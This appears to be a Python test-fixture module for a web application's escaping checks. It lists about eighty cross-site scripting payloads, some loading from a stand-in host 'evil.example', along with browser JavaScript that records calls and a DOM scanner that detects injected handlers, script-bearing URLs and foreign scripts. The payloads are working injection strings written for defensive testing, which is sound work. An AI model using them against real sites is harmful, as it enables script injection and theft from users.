"""Values with which somebody tries to run a script in a reader's browser. Each calls ``pwn()`` where it succeeds."""

from __future__ import annotations

RUN = "pwn()"

PAYLOADS: tuple[str, ...] = (
    # Elements
    "<script>pwn()</script>",
    "<ScRiPt>pwn()</sCrIpT>",
    "<script src=data:text/javascript,pwn()></script>",
    "<script src=//evil.example/x.js></script>",
    "<script/x>pwn()</script>",
    "<scr<script>ipt>pwn()</scr</script>ipt>",
    "</script><script>pwn()</script>",
    "</title><script>pwn()</script>",
    "</textarea><script>pwn()</script>",
    "</style><script>pwn()</script>",
    "<!--><script>pwn()</script>-->",
    "<![CDATA[<script>pwn()</script>]]>",
    "<noscript><p title='</noscript><img src=x onerror=pwn()>'>",
    "<img src=x onerror=pwn()>",
    "<img/src=x/onerror=pwn()>",
    "<IMG SRC=x ONERROR='pwn()'>",
    "<img src='x' onerror=\"pwn()\" alt=",
    "<<img src=x onerror=pwn()>",
    "<svg onload=pwn()>",
    "<svg><script>pwn()</script></svg>",
    "<svg><animate onbegin=pwn() attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:pwn()'><text y=20>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=pwn()>'>",
    "<body onload=pwn()>",
    "<iframe src=javascript:pwn()></iframe>",
    "<iframe srcdoc='<script>parent.pwn()</script>'></iframe>",
    "<object data=javascript:pwn()></object>",
    "<embed src=javascript:pwn()>",
    "<video><source onerror=pwn()></video>",
    "<audio src=x onerror=pwn()></audio>",
    "<details open ontoggle=pwn()>",
    "<input autofocus onfocus=pwn()>",
    "<select autofocus onfocus=pwn()>",
    "<textarea autofocus onfocus=pwn()>",
    "<marquee onstart=pwn()>",
    "<meta http-equiv=refresh content='0;url=javascript:pwn()'>",
    "<base href=javascript:pwn()//>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=data:text/html,<script>pwn()</script>>",
    "<style>@import'//evil.example/x.css'</style>",
    "<form action=javascript:pwn()><button>Go</button></form>",
    "<button form=edit formaction=javascript:pwn()>x</button>",
    "<template><img src=x onerror=pwn()></template>",
    "<p style=animation-name:x onanimationstart=pwn()>",
    # Out of an attribute
    '" onmouseover="pwn()" x="',
    "' onfocus='pwn()' autofocus x='",
    '"><img src=x onerror=pwn()>',
    "'><svg onload=pwn()>",
    '"autofocus onfocus=pwn() x="',
    "` onerror=`pwn()`",
    # Addresses
    "javascript:pwn()",
    "JaVaScRiPt:pwn()",
    "java&#115;cript:pwn()",
    "data:text/html,<script>parent.pwn()</script>",
    "vbscript:pwn()",
    "//evil.example/",
    # Markdown
    "[x](javascript:pwn())",
    "[x](JAVASCRIPT&colon;pwn())",
    "[x](<javascript:pwn()>)",
    "[x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduKCk8L3NjcmlwdD4=)",
    '![x](x"onerror="pwn())',
    "<javascript:pwn()>",
    "[x]: javascript:pwn()",
    "```\n</code></pre><script>pwn()</script>\n```",
    # Templates, scripts, JSON, and entities that are taken for signs once too often
    "{{ constructor.constructor('pwn()')() }}",
    "{% raw %}<script>pwn()</script>",
    "${pwn()}",
    '\\"-pwn()-\\"',
    "';pwn();//",
    "\\u003cscript\\u003epwn()\\u003c/script\\u003e",
    "&lt;script&gt;pwn()&lt;/script&gt;",
    "&#60;img src=x onerror=pwn()&#62;",
    "＜script＞pwn()＜/script＞",
    "\u2028pwn()//",
    "__proto__",
    '=HYPERLINK("javascript:pwn()")',
)

WATCH = """
window.ran = [];
window.pwn = (...why) => { window.ran.push(["pwn", ...why]); };
for (const name of ["alert", "confirm", "prompt", "print", "open"]) window[name] = () => { window.ran.push([name]); };
"""
"""What stands in each page before it loads."""

HARM = """() => {
  const own = /^(scripts|edit|search|people)\\//, found = window.ran.map(String);
  const first = document.querySelector("script[src]"), root = first ? first.src.replace(/scripts\\/.*/, "") : "";
  for (const e of document.querySelectorAll("*")) {
    for (const { name, value } of e.attributes) {
      if (name.startsWith("on")) found.push(e.localName + " " + name);
      if (name == "style" && !/^(div|progress)$/.test(e.localName) || name == "srcdoc") found.push(e.localName + " " + name);
      const address = /^(href|src|action|formaction|data|xlink:href)$/.test(name) || e.httpEquiv == "refresh";
      if (address && /(^|url=)[\\s\\0-\\x20]*(javascript|vbscript|data:text)/i.test(value)) {
        found.push(`${e.localName} ${name} ${value}`);
      }
    }
    const script = e.localName == "script" && !(e.src && own.test(e.src.replace(root, ""))) && !/json$/.test(e.type);
    if (script || /^(iframe|object|embed|math|video|audio|base|frame|marquee)$/.test(e.localName)) found.push(e.outerHTML.slice(0, 80));
    if (e.localName == "svg" && !e.closest(".heat, .grid, .ring, .tree, .qr")) found.push(e.outerHTML.slice(0, 80));
    if (e.localName == "link" && !/^(icon|canonical|alternate)$/.test(e.rel)) found.push(e.outerHTML);
  }
  return found;
}"""
"""What ran, and what stands in the page that could run or that only a payload puts there."""
